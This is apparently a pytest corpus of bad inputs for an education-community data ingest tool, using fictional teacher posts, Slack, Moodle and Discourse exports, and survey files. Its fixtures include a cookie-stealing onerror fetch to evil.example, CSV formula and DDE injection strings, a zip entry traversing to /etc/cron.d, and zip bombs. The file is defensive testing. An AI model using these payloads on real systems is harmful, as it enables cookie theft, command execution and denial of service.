"""A corpus of bad inputs for `value-pipeline ingest PATH --out DIR`.

The contract, for every bad input, is one of two outcomes:
- error: exit status 2, exactly one line on stderr ("value-pipeline: ", the offending
  file's path, a human explanation), nothing on stdout, no traceback, and DIR not created;
- quarantine: exit status 0, DIR/summary.json balanced (every account has
  read == accepted + quarantined), the bad rows quarantined with a reason that explains
  them, and the accepted tables without them; every table written whole (no partial file).

Each case builds a small input in tmp_path (fictional teachers under .example domains)
and runs the CLI in-process (`assets.cli.main`); one case runs the real command line in a
subprocess to show it behaves the same. Cases the code does not yet handle are marked
xfail(strict=True) with what goes wrong, so the corpus documents real behaviour.
"""

from __future__ import annotations

import csv
import io
import json
import os
import struct
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import polars as pl
import pytest
from support import PROJECT

from assets import cli

TABLES = ("posts", "members", "survey_responses", "survey_items", "quarantine", "row_accounts")
SECRET = "bad-inputs-test-secret"
NOW = datetime.now(timezone.utc)
FUTURE = NOW + timedelta(days=730)


# ---------------------------------------------------------------- what a case is
@dataclass
class Built:
    """An input on disk: the path given to `ingest`, extra CLI arguments, and the file an
    error must name (default: the path itself)."""

    path: Path
    args: list[str] = field(default_factory=list)
    culprit: Path | str | None = None


@dataclass(frozen=True)
class Error:
    """Exit 2 with one line naming the culprit file and containing `message`."""

    message: str
    lacks: tuple[str, ...] = ()
    max_seconds: float | None = None


@dataclass(frozen=True)
class Quarantine:
    """Exit 0, balanced; `reason` (a substring) among the quarantine reasons, or None when
    the input must be read whole with nothing quarantined (a tuple: any of these). `rows` pins summary.json's row
    counts (posts, members, survey_responses, quarantine) so no row can vanish unseen;
    `bad_posts` are post ids that must not be accepted; `check` looks at the tables."""

    reason: str | tuple[str, ...] | None
    rows: dict[str, int] = field(default_factory=dict)
    bad_posts: tuple[str, ...] = ()
    check: Callable[[dict[str, pl.DataFrame]], None] | None = None
    max_seconds: float | None = None


# ---------------------------------------------------------------- writing inputs
def _write(path: Path, content: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return path


def _csv(header: list[str], rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _epoch(text: str) -> str:
    return str(int(datetime.fromisoformat(text).replace(tzinfo=timezone.utc).timestamp()))


def _community(tmp_path: Path, yaml: str | None, files: dict[str, bytes | str]) -> Path:
    folder = tmp_path / "lakeview-math"
    folder.mkdir()
    if yaml is not None:
        _write(folder / "community.yaml", yaml)
    for name, content in files.items():
        _write(folder / name, content)
    return folder


COMMUNITY_YAML = "name: Lakeview Middle School Math Circle\ntimezone: America/Chicago\nstaff: [coach.imani]\n"

# A generic forum CSV already in the canonical column names.
GENERIC_HEADER = ["post_id", "author", "created_at", "body_text", "parent_post_id", "title", "channel"]
GENERIC_ROWS = [
    ["101", "maria.lopez@oakridge-ms.example", "2026-02-03T15:04:00Z",
     "Has anyone tried 3-2-1 exit tickets for the Grade 6 ratio unit?", "", "Exit tickets for ratios", "Grade 6 math"],
    ["102", "dev.patel@oakridge-ms.example", "2026-02-03T16:20:00Z",
     "Yes: three things learned, two questions, one connection. Takes five minutes at the end.", "101", "", "Grade 6 math"],
    ["103", "maria.lopez@oakridge-ms.example", "2026-02-04T08:10:00Z",
     "Thanks Dev, trying it on Friday with period 3.", "102", "", "Grade 6 math"],
]


def _generic(rows: list[list[str]] | None = None, header: list[str] | None = None, delimiter: str = ",") -> str:
    return _csv(header or GENERIC_HEADER, GENERIC_ROWS if rows is None else rows, delimiter)


def generic_file(name: str, rows: list[list[str]] | None = None, encoding: str = "utf-8", args=()):
    def build(tmp_path: Path) -> Built:
        text = _generic(rows)
        return Built(_write(tmp_path / name, text.encode(encoding)), list(args))
    return build


# Moodle's forum export (mod/forum/export.php), epoch dates.
MOODLE_HEADER = [
    "id", "discussion", "parent", "userid", "userfullname", "created", "modified", "mailed", "subject", "message",
    "messageformat", "messagetrust", "attachment", "totalscore", "mailnow", "deleted", "privatereplyto",
    "privatereplytofullname", "wordcount", "charcount",
]


def _moodle_row(post_id, discussion, parent, userid, name, created, subject, message, deleted="0") -> list[str]:
    values = {
        "id": post_id, "discussion": discussion, "parent": parent, "userid": userid, "userfullname": name,
        "created": _epoch(created) if created[:1].isdigit() and "-" in created else created,
        "modified": "", "mailed": "1", "subject": subject, "message": message, "messageformat": "1",
        "messagetrust": "0", "attachment": "", "totalscore": "0", "mailnow": "0", "deleted": deleted,
        "privatereplyto": "0", "privatereplytofullname": "", "wordcount": str(len(message.split())), "charcount": str(len(message)),
    }
    return [values[column] for column in MOODLE_HEADER]


MOODLE_ROWS = [
    _moodle_row("501", "51", "0", "21", "Imani Okafor", "2026-01-12T14:00:00", "Number talks: week 1",
                "<p>Post your favourite dot image for a number talk with 6th graders.</p>"),
    _moodle_row("502", "51", "501", "34", "Tomas Berg", "2026-01-12T18:30:00", "Re: Number talks: week 1",
                "<p>The quick-image 8 + 5 arrangement got everyone talking about making ten.</p>"),
    _moodle_row("503", "51", "502", "21", "Imani Okafor", "2026-01-13T09:15:00", "Re: Number talks: week 1",
                "<p>Love it. Did anyone see it as 10 + 3?</p>"),
]


def moodle_file(rows: list[list[str]], header: list[str] | None = None, name="Module 2 - Number talks.csv"):
    def build(tmp_path: Path) -> Built:
        header_ = header or MOODLE_HEADER
        keep = [MOODLE_HEADER.index(column) for column in header_]
        return Built(_write(tmp_path / name, _csv(header_, [[row[i] for i in keep] for row in rows])))
    return build


# Discourse topic responses (/t/{id}.json).
def _dpost(post_id, number, username, cooked, created="2026-03-02T14:03:51.204Z", reply_to=None, topic_id=31, **extra):
    return {
        "id": post_id, "name": username.title(), "username": username, "created_at": created, "cooked": cooked,
        "post_number": number, "post_type": 1, "reply_to_post_number": reply_to, "topic_id": topic_id,
        "moderator": False, "admin": False, "staff": False, "deleted_at": None, "reads": 12, **extra,
    }


DISCOURSE_POSTS = [
    _dpost(3101, 1, "ana.lucero", "<p>Which decodable texts work for 4th graders who are still catching up?</p>"),
    _dpost(3102, 2, "glindqvist", "<p>The Hi-Lo series from our book room has been great.</p>",
           created="2026-03-02T15:40:22.118Z", reply_to=1),
    _dpost(3103, 3, "treyes", "<p>Seconding Hi-Lo; my group reads one a week.</p>", created="2026-03-03T09:12:00.000Z", reply_to=2),
]


def _topic(posts: list[dict], topic_id=31, title="Decodable texts for older readers") -> str:
    return json.dumps({
        "id": topic_id, "title": title, "category_id": 5, "posts_count": len(posts),
        "post_stream": {"posts": posts, "stream": [post["id"] for post in posts]},
    }, indent=1)


def discourse_file(posts: list[dict], name="topic_31.json"):
    def build(tmp_path: Path) -> Built:
        return Built(_write(tmp_path / name, _topic(posts)))
    return build


# A Slack workspace export (zip).
SLACK_USERS = [
    {"id": "U01MARIA", "name": "maria.lopez", "profile": {"email": "maria.lopez@oakridge-ms.example", "display_name": "Maria"}},
    {"id": "U02DEV", "name": "dev.patel", "profile": {"email": "dev.patel@oakridge-ms.example", "display_name": "Dev"}},
    {"id": "B03BOT", "name": "standup-bot", "is_bot": True, "profile": {"display_name": "Standup bot"}},
]
SLACK_CHANNELS = [{"id": "C01PLAN", "name": "lesson-planning"}]


def _slack_message(user, text, ts, thread_ts=None, **extra):
    message = {"type": "message", "user": user, "text": text, "ts": ts, **extra}
    if thread_ts:
        message["thread_ts"] = thread_ts
    return message


SLACK_DAY = [
    _slack_message("U01MARIA", "Anyone have a good warm-up for integer subtraction?", "1770130000.000100",
                   thread_ts="1770130000.000100", reply_count=1),
    _slack_message("U02DEV", "Number-line hops with a partner, two minutes each.", "1770130600.000200", thread_ts="1770130000.000100"),
]


def _slack_zip(path: Path, channels: dict[str, list] | None = None, extra: dict[str, bytes] | None = None,
               channels_json: bytes | None = None) -> Path:
    channel_list = list(SLACK_CHANNELS) + [
        {"id": f"C{i:02d}X", "name": name} for i, name in enumerate(channels or {}) if name != "lesson-planning"
    ]
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("channels.json", channels_json if channels_json is not None else json.dumps(channel_list))
        archive.writestr("users.json", json.dumps(SLACK_USERS))
        for name, messages in (channels if channels is not None else {"lesson-planning": SLACK_DAY}).items():
            archive.writestr(f"{name}/2026-02-03.json", json.dumps(messages))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def slack_zip(channels=None, extra=None, channels_json=None, culprit: str | None = None):
    def build(tmp_path: Path) -> Built:
        path = _slack_zip(tmp_path / "oakridge-slack-export.zip", channels, extra, channels_json)
        return Built(path, culprit=f"{path}!{culprit}" if culprit else None)
    return build


# A Canvas discussion topic /view response.
def _canvas_view() -> str:
    return json.dumps({
        "unread_entries": [], "forced_entries": [], "entry_ratings": {},
        "participants": [{"id": 11, "display_name": "Priya Nair"}, {"id": 12, "display_name": "Sam Whitfield"}],
        "view": [{
            "id": 901, "user_id": 11, "parent_id": None, "created_at": "2026-02-09T17:00:00Z",
            "message": "<p>Share one questioning move that got quiet students talking.</p>",
            "replies": [{"id": 902, "user_id": 12, "parent_id": 901, "created_at": "2026-02-09T18:10:00Z",
                         "message": "<p>Think-pair-share with a sentence starter.</p>"}],
        }],
        "new_entries": [],
    })


# Survey exports.
Q_USEFUL = "Taking part in the community has been useful for my teaching."
Q_ENJOY = "I enjoy taking part in the community."
Q_STORY = "Think of one thing you did or read in the community that mattered to you. What was it?"
Q_USED = "In the last three months, I used a resource or idea from the community in my class."
FORMS_HEADER = ["Timestamp", "Email Address", Q_USEFUL, Q_ENJOY, Q_STORY]


def forms_file(rows: list[list[str]], header: list[str] | None = None, name="followup.csv"):
    def build(tmp_path: Path) -> Built:
        return Built(_write(tmp_path / name, _csv(header or FORMS_HEADER, rows)))
    return build


QUALTRICS_IDS = ["StartDate", "EndDate", "Status", "Progress", "Finished", "RecordedDate", "ResponseId",
                 "RecipientEmail", "DistributionChannel", "Q1", "Q2", "Q3"]
QUALTRICS_TEXTS = ["Start Date", "End Date", "Response Type", "Progress", "Finished", "Recorded Date", "Response ID",
                   "Recipient Email", "Distribution Channel", Q_USEFUL, Q_USED, Q_STORY]
QUALTRICS_IMPORTS = [
    json.dumps({"ImportId": key, **({"timeZone": "America/Chicago"} if "Date" in key else {})}, separators=(",", ":"))
    for key in ("startDate", "endDate", "status", "progress", "finished", "recordedDate", "_recordId",
                "recipientEmail", "distributionChannel", "QID1", "QID2", "QID3_TEXT")
]


def _qualtrics_row(when, status, response_id, email, channel, useful, used, story) -> list[str]:
    return [when, when, status, "100", "True", when, response_id, email, channel, useful, used, story]


def qualtrics_file(rows: list[list[str]], name="Community value survey_baseline.csv"):
    def build(tmp_path: Path) -> Built:
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        writer.writerows([QUALTRICS_IDS, QUALTRICS_TEXTS, QUALTRICS_IMPORTS, *rows])
        return Built(_write(tmp_path / name, "\ufeff" + buffer.getvalue()))
    return build


# ---------------------------------------------------------------- builders of particular cases
def file_with(name: str, content: bytes | str, args=(), culprit: str | None = None):
    def build(tmp_path: Path) -> Built:
        return Built(_write(tmp_path / name, content), list(args), culprit=culprit)
    return build


def community_with(yaml: str | None, files: dict[str, bytes | str], culprit: str | None = None):
    """A community folder; `culprit` is the path (relative to the folder) an error must name."""
    def build(tmp_path: Path) -> Built:
        folder = _community(tmp_path, yaml, files)
        return Built(folder, culprit=folder / culprit if culprit else None)
    return build


def missing_path(tmp_path: Path) -> Built:
    return Built(tmp_path / "exports" / "spring-cohort-forum.zip")


def not_an_export_folder(tmp_path: Path) -> Built:
    folder = tmp_path / "staff-room-photos"
    _write(folder / "notes.txt", "Bring fraction tiles to the March PD day.\n")
    _write(folder / "whiteboard.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64))
    return Built(folder)


def zip_bomb_declared(tmp_path: Path) -> Built:
    """A Slack export whose one channel day holds 300 MB of zeros (about 1 MB compressed)."""
    path = _slack_zip(tmp_path / "oakridge-slack-export.zip")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("lesson-planning/2026-02-04.json", "w") as handle:
            chunk = bytes(2**20)
            for _ in range(300):
                handle.write(chunk)
    return Built(path)


def zip_bomb_lying(tmp_path: Path) -> Built:
    """A Slack export whose channel day declares 2 KB in its headers but whose deflate
    stream expands to 64 MB."""
    path = _slack_zip(tmp_path / "oakridge-slack-export.zip")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lesson-planning/2026-02-04.json", b"[" + b" " * (64 * 2**20) + b"]")
    data = bytearray(path.read_bytes())
    name = b"lesson-planning/2026-02-04.json"
    patched = 0
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[at + size_at:at + size_at + 4] = struct.pack("<I", 2048)
                patched += 1
            start = at + 4
    assert patched == 2
    path.write_bytes(bytes(data))
    return Built(path)


def truncated_zip(tmp_path: Path) -> Built:
    """A Slack export zip cut off halfway (an interrupted download)."""
    path = _slack_zip(tmp_path / "oakridge-slack-export.zip")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return Built(path)


def timezone_check(expected: dict[str, str]):
    """The posts' created_at (UTC) by post id."""
    def check(tables: dict[str, pl.DataFrame]) -> None:
        got = {
            post_id: created.strftime("%Y-%m-%dT%H:%M:%SZ")
            for post_id, created in tables["posts"].select("post_id", "created_at").iter_rows()
        }
        assert got == expected
    return check


def body_check(post_id: str, *, equals: str | None = None, contains: tuple[str, ...] = (), lacks: tuple[str, ...] = ()):
    def check(tables: dict[str, pl.DataFrame]) -> None:
        bodies = dict(tables["posts"].select("post_id", "body_text").iter_rows())
        body = bodies[post_id]
        if equals is not None:
            assert body == equals
        for text in contains:
            assert text in body
        for text in lacks:
            assert text not in body
    return check


def answer_check(item_id: str, *, texts: list[str] | None = None, numbers: list[float] | None = None):
    """The accepted answers to one item, as text or as numbers (sorted)."""
    def check(tables: dict[str, pl.DataFrame]) -> None:
        answers = tables["survey_responses"].filter(pl.col("item_id") == item_id)
        if texts is not None:
            assert sorted(answers.get_column("value_text").to_list()) == sorted(texts)
        if numbers is not None:
            assert sorted(answers.get_column("value_num").to_list()) == numbers
    return check


def all_of(*checks):
    def check(tables: dict[str, pl.DataFrame]) -> None:
        for one in checks:
            one(tables)
    return check


def title_check(post_id: str, title: str):
    def check(tables: dict[str, pl.DataFrame]) -> None:
        assert tables["posts"].filter(pl.col("post_id") == post_id).get_column("title").to_list() == [title]
    return check


# ---------------------------------------------------------------- the corpus
HUGE = 20 * 2**20  # a 20 MB post body
FORMULA = '=HYPERLINK("http://evil.example","click")'
SCRIPT_HTML = (
    '<p>Here is the fractions game I promised.</p><script>alert(1)</script>'
    '<img src=x onerror="fetch(\'http://evil.example/?c=\'+document.cookie)">'
    '<p>Play it in pairs.</p><style>p { display:none }</style>'
)

CASES = [
    # --- empty, blank and header-only files
    pytest.param(file_with("forum.csv", b""), Error("empty"), id="empty-file"),
    pytest.param(file_with("forum.csv", " \r\n\t\n   \n"), Error("empty"), id="whitespace-only"),
    pytest.param(moodle_file([]), Quarantine(None, rows={"posts": 0, "quarantine": 0}), id="header-only-moodle"),
    pytest.param(generic_file("district_forum.csv", rows=[]), Quarantine(None, rows={"posts": 0, "quarantine": 0}),
                 id="header-only-generic"),
    pytest.param(qualtrics_file([]), Quarantine(None, rows={"survey_responses": 0, "quarantine": 0}), id="header-only-qualtrics"),
    pytest.param(forms_file([]), Quarantine(None, rows={"survey_responses": 0, "quarantine": 0}), id="header-only-google-forms"),
    # --- truncated JSON
    pytest.param(file_with("topic_31.json", _topic(DISCOURSE_POSTS)[:400]), Error("not valid JSON"), id="truncated-discourse-topic"),
    pytest.param(slack_zip(channels_json=json.dumps(SLACK_CHANNELS)[:25].encode(), culprit="channels.json"),
                 Error("not valid JSON"), id="truncated-slack-channels-in-zip"),
    pytest.param(file_with("week3_questioning_view.json", _canvas_view()[:300]), Error("not valid JSON"), id="truncated-canvas-view"),
    # --- wrong format for the extension (detection is by content)
    pytest.param(file_with("topic_31.json", _generic()), Quarantine(None, rows={"posts": 3, "quarantine": 0}),
                 id="csv-named-json"),
    pytest.param(file_with("district_forum.csv", _topic(DISCOURSE_POSTS)), Quarantine(None, rows={"posts": 3, "quarantine": 0}),
                 id="json-named-csv"),
    pytest.param(file_with("district_forum.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(200)),
                 Error("binary data"), id="png-named-csv"),
    pytest.param(file_with("topic_31.json", bytes(range(256)) * 8), Error("binary data"), id="binary-data"),
    # --- encodings
    # UTF-16 saved without a byte-order mark is recognised by its NUL pattern and read
    pytest.param(generic_file("district_forum.csv", encoding="utf-16-le"),
                 Quarantine(None, rows={"posts": len(GENERIC_ROWS), "quarantine": 0}), id="utf16-without-bom"),
    pytest.param(
        generic_file("district_forum.csv", encoding="latin-1", rows=[
            ["201", "zoe.muller@ecole-riviere.example", "2026-02-05T10:00:00Z",
             "Café pédagogique jeudi : apportez vos idées de problèmes ouverts, Zoë", "", "Café pédagogique", "Général"],
        ]),
        Quarantine(None, rows={"posts": 1, "quarantine": 0},
                   check=body_check("201", equals="Café pédagogique jeudi : apportez vos idées de problèmes ouverts, Zoë")),
        id="latin1-csv-with-accents",
    ),
    pytest.param(
        generic_file("district_forum.csv", rows=[
            ["202", "zoe.muller@ecole-riviere.example", "2026-02-05T10:00:00Z",
             "CafÃ© pÃ©dagogique: the teachersâ€™ lounge on Thursday", "", "CafÃ©", "GÃ©nÃ©ral"],
        ]),
        Quarantine(None, rows={"posts": 1, "quarantine": 0},
                   check=body_check("202", equals="Café pédagogique: the teachers’ lounge on Thursday")),
        id="double-encoded-utf8-repaired",
    ),
    pytest.param(file_with("topic_31.json", _topic(DISCOURSE_POSTS).replace("Hi-Lo", "Hi\udcffLo", 1)
                           .encode("utf-8", "surrogateescape")),
                 Error("not UTF-8"), id="invalid-utf8-in-json"),
    pytest.param(file_with("district_forum.csv", _generic().replace("exit tickets", "exit\x00tickets", 1)),
                 Error("binary data"), id="null-byte-early-in-csv"),
    pytest.param(
        file_with("district_forum.csv", _generic([
            *GENERIC_ROWS,
            *[[str(300 + i), "dev.patel@oakridge-ms.example", "2026-02-06T12:00:00Z",
               f"Week {i} reflection: the ratio tables went well, the double number lines less so. " * 12, "", f"Reflection {i}", "Journal"]
              for i in range(80)],
            ["399", "maria.lopez@oakridge-ms.example", "2026-02-07T12:00:00Z", "Pasted from a PDF:\x00\x00 fractions", "", "", "Journal"],
        ])),
        Quarantine(("NUL", "null byte", "binary"), rows={"posts": 83, "quarantine": 1}, bad_posts=("399",)),
        id="null-byte-late-in-csv",
    ),
    # --- missing required columns
    pytest.param(moodle_file(MOODLE_ROWS, header=[c for c in MOODLE_HEADER if c != "created"]),
                 Error("missing column(s) created"), id="moodle-without-created"),
    pytest.param(
        file_with("district_forum.csv", _csv(
            ["id", "board", "subject", "message", "email", "posted", "reply_to"],
            [["1001", "Grade 4 math", "Fraction strips first?", "Strips before number lines?", "ana.ruiz@lakeview-sd.example",
              "14/01/2026 19:42", ""]], delimiter=";"), args=["--platform", "generic"]),
        Error("generic export needs column(s) post_id, created_at, body_text, author"), id="generic-unmapped-layout",
    ),
    pytest.param(
        community_with(COMMUNITY_YAML + "platform: generic\n", {
            "forum/district_forum.csv": _csv(["id", "board", "message", "email", "posted"],
                                             [["1001", "Grade 4 math", "Strips before number lines?", "ana.ruiz@lakeview-sd.example",
                                               "14/01/2026 19:42"]]),
        }, culprit="forum/district_forum.csv"),
        Error("map them under forum_options.columns"), id="generic-community-without-mapping",
    ),
    pytest.param(forms_file([["ana.ruiz@district.example", "Agree", "Strongly agree", "The fractions lesson"]],
                            header=["Email Address", Q_USEFUL, Q_ENJOY, Q_STORY]),
                 Error("submission time"), id="google-forms-without-timestamp"),
    # --- duplicate post ids
    pytest.param(
        community_with(COMMUNITY_YAML, {
            "forum/topic_31.json": _topic(DISCOURSE_POSTS),
            "forum/topic_31_posts.json": _topic([DISCOURSE_POSTS[2], _dpost(3104, 4, "ana.lucero", "<p>Ordering a set today.</p>",
                                                                            created="2026-03-04T10:00:00.000Z", reply_to=3)]),
        }),
        Quarantine("duplicate post id", rows={"posts": 4, "quarantine": 1}), id="discourse-duplicate-ids-across-files",
    ),
    pytest.param(moodle_file([*MOODLE_ROWS, _moodle_row("502", "51", "501", "34", "Tomas Berg", "2026-01-14T10:00:00",
                                                        "Re: Number talks: week 1", "<p>Edited copy of my reply.</p>")]),
                 Quarantine("duplicate post id", rows={"posts": 3, "quarantine": 1}), id="moodle-duplicate-ids"),
    pytest.param(generic_file("district_forum.csv", rows=[*GENERIC_ROWS, ["102", "dev.patel@oakridge-ms.example",
                                                                        "2026-02-05T09:00:00Z", "Reposted by the sync job", "101", "", ""]]),
                 Quarantine("duplicate post id", rows={"posts": 3, "quarantine": 1}), id="generic-duplicate-ids"),
    # --- replies to missing parents
    pytest.param(moodle_file([*MOODLE_ROWS, _moodle_row("504", "51", "499", "34", "Tomas Berg", "2026-01-14T10:00:00",
                                                        "Re: Number talks: week 1", "<p>Replying to a removed post.</p>")]),
                 Quarantine("reply to a post not in the export", rows={"posts": 3, "quarantine": 1}, bad_posts=("504",)),
                 id="moodle-reply-to-missing-parent"),
    pytest.param(generic_file("district_forum.csv", rows=[*GENERIC_ROWS, ["104", "dev.patel@oakridge-ms.example",
                                                                        "2026-02-05T09:00:00Z", "Agreed, see above.", "99", "", ""]]),
                 Quarantine("reply to a post not in the export", rows={"posts": 3, "quarantine": 1}, bad_posts=("104",)),
                 id="generic-reply-to-missing-parent"),
    pytest.param(slack_zip(channels={"lesson-planning": [
        *SLACK_DAY,
        _slack_message("U02DEV", "Following up on my question from last week.", "1770131200.000300", thread_ts="1769000000.000100"),
    ]}), Quarantine("reply to a thread not in the export", rows={"posts": 2, "quarantine": 2},  # and the bot user
                    bad_posts=("C01PLAN:1770131200.000300",)),
        id="slack-thread-reply-without-parent"),
    pytest.param(discourse_file([*DISCOURSE_POSTS, _dpost(3104, 4, "treyes", "<p>Answering post 9, which was deleted.</p>",
                                                          created="2026-03-04T10:00:00.000Z", reply_to=9)]),
                 Quarantine("reply to a post not in the export", rows={"posts": 3, "quarantine": 1}, bad_posts=("3104",)),
                 id="discourse-reply-to-missing-post-number"),
    # --- times
    pytest.param(
        generic_file("district_forum.csv", rows=[
            ["101", "maria.lopez@oakridge-ms.example", "2026-02-03T15:04:00Z", "Posted from the UK office.", "", "Times", ""],
            ["102", "dev.patel@oakridge-ms.example", "2026-02-03T17:20:00+02:00", "Posted from Helsinki.", "101", "", ""],
            ["103", "maria.lopez@oakridge-ms.example", "2026-07-04 08:10:00", "Posted with a zone-less clock.", "102", "", ""],
        ], args=["--timezone", "Europe/London"]),
        Quarantine(None, rows={"posts": 3, "quarantine": 0}, check=timezone_check({
            "101": "2026-02-03T15:04:00Z", "102": "2026-02-03T15:20:00Z", "103": "2026-07-04T07:10:00Z",
        })),
        id="mixed-timezones-in-one-csv",
    ),
    pytest.param(
        generic_file("district_forum.csv", rows=[
            ["101", "maria.lopez@oakridge-ms.example", "2026-02-03 09:04:00", "Morning question, Chicago time.", "", "Times", ""],
            ["102", "dev.patel@oakridge-ms.example", "2026-06-03 09:20:00", "Summer answer, Chicago time.", "101", "", ""],
        ], args=["--timezone", "America/Chicago"]),
        Quarantine(None, rows={"posts": 2, "quarantine": 0},
                   check=timezone_check({"101": "2026-02-03T15:04:00Z", "102": "2026-06-03T14:20:00Z"})),
        id="naive-times-in-given-timezone",
    ),
    pytest.param(
        lambda tmp_path: Built(_write(tmp_path / "district_forum.csv", _generic()), ["--timezone", "Mars/Olympus_Mons"],
                               culprit="--timezone"),
        Error("unknown timezone 'Mars/Olympus_Mons'"), id="unknown-cli-timezone",
    ),
    pytest.param(
        generic_file("district_forum.csv", rows=[*GENERIC_ROWS,
                                                  ["104", "dev.patel@oakridge-ms.example", FUTURE.strftime("%Y-%m-%dT%H:%M:%SZ"),
                                                   "Posted by a laptop with its clock two years ahead.", "", "Clock", ""],
                                                  ["105", "maria.lopez@oakridge-ms.example", "2026-02-06T08:00:00Z",
                                                   "A reply to the future post.", "104", "", ""]]),
        Quarantine("dated in the future", rows={"posts": 3, "quarantine": 2}, bad_posts=("104", "105")),
        id="post-dated-in-the-future",
    ),
    pytest.param(
        forms_file([
            ["2/10/2026 16:05:11", "ana.ruiz@district.example", "Agree", "Strongly agree", "The fractions lesson"],
            [FUTURE.strftime("%m/%d/%Y %H:%M:%S"), "ben.ode@district.example", "Agree", "Agree", "Number talks"],
        ]),
        Quarantine("submission dated outside the plausible range", rows={"survey_responses": 3, "quarantine": 3}),
        id="survey-submitted-in-the-future",
    ),
    pytest.param(
        generic_file("district_forum.csv", rows=[*GENERIC_ROWS,
                                                  ["104", "dev.patel@oakridge-ms.example", "1970-01-01T00:00:00Z",
                                                   "Posted from a Chromebook that lost its clock.", "", "Clock", ""]]),
        Quarantine("dated before 1995", rows={"posts": 3, "quarantine": 1}, bad_posts=("104",)),
        id="unset-clock-1970",
    ),
    # --- huge and deep
    pytest.param(
        generic_file("district_forum.csv", rows=[*GENERIC_ROWS,
                                                  ["104", "dev.patel@oakridge-ms.example", "2026-02-06T08:00:00Z",
                                                   "Pasted the whole curriculum: " + "ratio tables and tape diagrams " * (HUGE // 30),
                                                   "", "Curriculum", ""]]),
        Quarantine("post body over a million characters", rows={"posts": 3, "quarantine": 1}, bad_posts=("104",), max_seconds=8),
        id="20mb-body-generic-csv",
    ),
    pytest.param(
        discourse_file([*DISCOURSE_POSTS, _dpost(3104, 4, "treyes", "<p>" + "Decodable text list, page after page. " * (HUGE // 38) + "</p>",
                                                 created="2026-03-04T10:00:00.000Z", reply_to=1)]),
        Quarantine("post body over a million characters", rows={"posts": 3, "quarantine": 1}, bad_posts=("3104",), max_seconds=8),
        id="20mb-body-discourse-cooked",
    ),
    pytest.param(file_with("topic_31.json", '{"post_stream": {"posts": ' + "[" * 10_000 + "]" * 10_000 + "}}"),
                 Error("nested too deeply"), id="json-nested-10000-levels"),
    # --- hostile zips
    pytest.param(slack_zip(extra={"../../etc/cron.d/lesson-planning.json": b"[]"}), Error("unsafe path in zip"),
                 id="slack-zip-with-dotdot-entry"),
    pytest.param(zip_bomb_declared, Error("size limit", max_seconds=5), id="zip-bomb-300mb-of-zeros"),
    pytest.param(zip_bomb_lying, Error("unreadable zip member", max_seconds=5), id="zip-declaring-small-sizes-expands-large"),
    pytest.param(truncated_zip, Error("zip"), id="truncated-slack-zip"),
    # --- content that must stay data
    pytest.param(
        generic_file("district_forum.csv", rows=[
            ["101", "maria.lopez@oakridge-ms.example", "2026-02-03T15:04:00Z", FORMULA, "", "@SUM(1)", "Grade 6 math"],
            ["102", "dev.patel@oakridge-ms.example", "2026-02-03T16:20:00Z", "+cmd|' /C calc'!A0", "101", "", "Grade 6 math"],
            ["103", "maria.lopez@oakridge-ms.example", "2026-02-03T17:20:00Z", "@SUM(1)", "102", "", "Grade 6 math"],
        ]),
        Quarantine(None, rows={"posts": 3, "quarantine": 0}, check=all_of(
            body_check("101", equals=FORMULA), body_check("102", equals="+cmd|' /C calc'!A0"),
            body_check("103", equals="@SUM(1)"), title_check("101", "@SUM(1)"),
        )),
        id="formulas-in-post-bodies",
    ),
    pytest.param(
        forms_file([["2/10/2026 16:05:11", "ana.ruiz@district.example", "Agree", "Agree", FORMULA],
                    ["2/11/2026 09:00:00", "ben.ode@district.example", "=1+4", "Agree", "+cmd|' /C calc'!A0"]]),
        Quarantine("unrecognised answer for a scale item (imm_useful)", rows={"survey_responses": 5, "quarantine": 1},
                   check=answer_check("story_activity", texts=[FORMULA, "+cmd|' /C calc'!A0"])),
        id="formulas-in-survey-answers",
    ),
    pytest.param(
        discourse_file([*DISCOURSE_POSTS[:2], _dpost(3103, 3, "treyes", SCRIPT_HTML, created="2026-03-03T09:12:00.000Z", reply_to=2)]),
        Quarantine(None, rows={"posts": 3, "quarantine": 0}, check=body_check(
            "3103", contains=("Here is the fractions game I promised.", "Play it in pairs."),
            lacks=("<", ">", "alert", "onerror", "display:none", "cookie"),
        )),
        id="script-and-html-in-discourse-cooked",
    ),
    pytest.param(
        moodle_file([*MOODLE_ROWS[:2], _moodle_row("503", "51", "502", "21", "Imani Okafor", "2026-01-13T09:15:00",
                                                   "Re: Number talks", SCRIPT_HTML)]),
        Quarantine(None, rows={"posts": 3, "quarantine": 0}, check=body_check(
            "503", contains=("fractions game",), lacks=("<", ">", "alert", "onerror", "display:none", "cookie"),
        )),
        id="script-and-html-in-moodle-message",
    ),
    # --- survey answers out of scale, repeated, previews
    pytest.param(forms_file([["2/10/2026 16:05:11", "ana.ruiz@district.example", "7", "Agree", "The fractions lesson"]]),
                 Quarantine("answer outside the item's scale (imm_useful)", rows={"survey_responses": 2, "quarantine": 1}),
                 id="survey-7-on-a-1-to-5-item"),
    pytest.param(forms_file([["2/10/2026 16:05:11", "ana.ruiz@district.example", "Agreeish", "Agree", "The fractions lesson"]]),
                 Quarantine("unrecognised answer for a scale item (imm_useful)", rows={"survey_responses": 2, "quarantine": 1}),
                 id="survey-agreeish"),
